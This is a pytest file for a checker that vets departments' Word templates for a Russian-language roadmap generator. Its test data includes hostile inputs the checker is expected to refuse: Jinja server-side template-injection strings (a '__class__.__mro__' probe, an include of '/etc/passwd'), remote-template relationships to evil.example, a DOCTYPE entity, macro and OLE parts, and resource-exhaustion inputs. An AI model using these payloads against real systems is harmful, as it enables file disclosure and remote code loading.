"""The department's own Word template: checked before it is kept, harmless whatever stands in it."""

import io
import zipfile
from dataclasses import replace

import docx
import pytest

from roadmaps.documents import read_document
from roadmaps.documents.content import Content, Item, Order
from roadmaps.writers.word import default_template, write_word
from roadmaps.writers.word_default import make_template
from roadmaps.writers.word_template import WordTemplateError, check_template
from roadmaps.writers.word_template_checks import check
from tests.roadmaps.word_files import archive

CONTENT = Content(
    title="Дорожная карта на 2026 год",
    order=Order("412", None, "Управление образования", "И.И. Иванова"),
    activities=(Item("1", title="Совещание", deadline="май", responsible=("Озерова Л.П.",)),),
)


def template(*lines, header="", footer=""):
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    document.sections[0].header.paragraphs[0].text = header
    document.sections[0].footer.paragraphs[0].text = footer
    return saved(document)


def saved(document):
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def changed(data, name, change):
    """The archive with one part changed, or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        parts = {part: old.read(part) for part in old.namelist()}
    parts[name] = change(parts.get(name, b""))
    return archive(parts)


def test_the_template_in_the_repository_is_what_the_command_makes():
    def parts(data):
        with zipfile.ZipFile(io.BytesIO(data)) as one:
            return {name: one.read(name) for name in one.namelist()}

    assert parts(default_template()) == parts(make_template())
    check_template(default_template())


def test_a_departments_template_keeps_its_own_words_and_gets_the_plan():
    mine = template("Герб", "Приказ № {{ номер_приказа }}", "{{ план }}", footer="{{ муниципалитет }}")
    check(mine)
    made = docx.Document(io.BytesIO(write_word(CONTENT, template=mine)))
    assert [one.text for one in made.paragraphs if one.text][:2] == ["Герб", "Приказ № 412"]
    assert made.tables[0].rows[1].cells[1].text == "Совещание"
    assert made.sections[0].orientation != made.sections[-1].orientation or len(made.sections) == 1


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("{{ дорожная_карта }}", "{{ фио }}", "{{ телефон }}"), "«телефон», «фио»"),
        (("{{ дорожная_карта }}", "{{ название"), "до конца"),
        (("{{ название }}",), "дорожная_карта"),
        (("{{ план }}", "{% for x in план %}{{ x }}{% endfor %}"), "называть поля"),
        (("{{ план }}", "{{ название.__class__.__mro__ }}"), "называть поля"),
        (("{{ план }}", "{{ ''.join(['а'] * 10**9) }}"), "называть поля"),
        (("{{ план }}", "{% set a = 1 %}"), "называть поля"),
        (("{{ план }}", "{% include '/etc/passwd' %}"), "называть поля"),
        (("{{ план }}", "{{ название|upper }}"), "называть поля"),
        (("{{ план }}", "{{ range(10) }}"), "называть поля"),
    ],
)
def test_a_template_that_cannot_be_filled_in_is_refused_by_name(lines, said):
    with pytest.raises(WordTemplateError, match=said):
        check(template(*lines))


def test_blocks_belong_into_the_text_itself():
    with pytest.raises(WordTemplateError, match="«план»"):
        check(template("{{ план }}", header="{{ план }}"))


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("word/vbaProject.bin", lambda _data: b"macro"),
        ("word/embeddings/oleObject1.bin", lambda _data: b"ole"),
        (
            "word/_rels/document.xml.rels",
            lambda data: data.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
                b"</Relationships>",
            ),
        ),
        ("word/styles.xml", lambda data: b'<!DOCTYPE a [<!ENTITY b "c">]>' + data),
        ("word/document.xml", lambda data: data[:-40]),
        ("word/media/large.xml", lambda _data: b" " * 3_000_000),
    ],
)
def test_a_hostile_template_is_refused(name, change):
    with pytest.raises(WordTemplateError):
        check(changed(default_template(), name, change))


def linked(attributes):
    """The portal's template with one more relationship of its document."""
    added = f"<Relationship {attributes}/></Relationships>".encode()
    return changed(
        default_template(),
        "word/_rels/document.xml.rels",
        lambda data: data.replace(b"</Relationships>", added),
    )


KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@pytest.mark.parametrize(
    "attributes",
    [
        f"Id='rId99' Type='{KIND}attachedTemplate' Target='http://evil.example/a.dotm' TargetMode='External'",
        f'Id="rId99" Type="{KIND}image" Target="file://host/hyperlink.png"\n TargetMode = "External"',
        f'Id="rId99" Type="{KIND}hyperlinkBase" Target="http://evil.example/" TargetMode="&#69;xternal"',
    ],
)
def test_a_template_that_reaches_outside_is_refused_however_it_is_written(attributes):
    with pytest.raises(WordTemplateError, match="внешние файлы"):
        check(linked(attributes))


def test_a_link_to_click_is_no_harm():
    check(linked(f"Id='rId99' Type='{KIND}hyperlink' Target='http://example.ru/' TargetMode='External'"))


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("{{ дорожная_карта }}.",), r"«\{\{ дорожная_карта \}\}.»"),
        (("План: {{ план }}",), "«План: "),
        (("{{ паспорт }}{{ план }}",), "паспорт"),
        (("{% if есть_текст_приказа %}", "{{ план }}", "{% endif %}"), "«есть_текст_приказа»"),
        (("{% if цель %}{{ план }}{% endif %}",), "дорожная_карта"),
        (("{% if план %}{{ название }}{% endif %}",), "дорожная_карта"),
    ],
)
def test_a_piece_stands_alone_and_does_not_depend_on_a_condition(lines, said):
    with pytest.raises(WordTemplateError, match=said):
        check(template(*lines))


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("{{ план }}",) * 150, "ещё раз: «план»"),
        (("{{ план }}", "{{ дорожная_карта }}", "{{ паспорт }}"), "части: «паспорт», «план»"),
        (("{% if есть_гриф %}{{ план }}{% endif %}", "{{ план }}"), "ещё раз: «план»"),
    ],
)
def test_a_piece_of_the_roadmap_stands_once(lines, said):
    with pytest.raises(WordTemplateError, match=said):
        check(template(*lines))


def test_a_piece_may_stand_in_both_ways_of_a_condition():
    way = "{% if есть_гриф %}", "{{ план }}", "{% else %}", "{{ план }}", "{% endif %}"
    check(template(*way, "{{ лист_ознакомления }}"))


def test_a_piece_that_comes_again_in_one_roadmap_only_is_not_written_twice():
    hidden = ("{% if not цель and координаторы %}", "{{ план }}", "{% endif %}")
    mine = template("{{ план }}", *hidden * 3)
    check(mine)
    content = replace(CONTENT, goal="", coordinators=["Иванова И. И."])
    with pytest.raises(WordTemplateError, match="ещё раз: «план»"):
        write_word(content, template=mine)


def test_a_piece_whose_paragraph_has_other_words_only_under_a_condition_is_refused():
    with pytest.raises(WordTemplateError, match="«Лист: "):
        check(template("{% if not есть_текст_приказа %}Лист: {% endif %}{{ план }}"))


def test_a_condition_from_a_cell_into_the_text_is_refused():
    document = docx.Document()
    document.add_table(1, 1).cell(0, 0).text = "{% if есть_лист_ознакомления %}да"
    document.add_paragraph("нет{% endif %}")
    document.add_paragraph("{{ план }}")
    with pytest.raises(WordTemplateError, match="Условие"):
        check(saved(document))


def test_a_piece_in_a_cell_takes_the_place_of_its_field():
    document = docx.Document()
    document.add_table(1, 1).cell(0, 0).text = "{{ план }}"
    check(saved(document))
    made = write_word(CONTENT, template=saved(document))
    cell = docx.Document(io.BytesIO(made)).tables[0].cell(0, 0)
    assert cell.tables[0].rows[1].cells[1].text == "Совещание"
    assert "\ue000" not in cell.text


@pytest.mark.parametrize(
    "text",
    ["{{r " * 16_000, "{% if цель %}" * 2_000 + "{% endif %}" * 2_000],
    ids=["runs", "depth"],
)
def test_a_template_that_would_keep_the_portal_busy_is_refused(text):
    with pytest.raises(WordTemplateError, match="слишком сложен"):
        check_template(template("{{ дорожная_карта }}", text))


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 9])
def test_what_is_no_word_file_is_refused(data):
    with pytest.raises(WordTemplateError):
        check(data)


def test_braces_in_the_roadmap_are_only_text():
    content = Content(
        title="Дорожная карта {{ 7 * 7 }} на 2026 год",
        activities=(Item("1", title="{% raw %} </w:t> <script> \ue000план\ue000", deadline="май"),),
    )
    read = read_document(write_word(content), "а.docx")
    assert read.title == content.title
    assert read.activities[0].title == content.activities[0].title
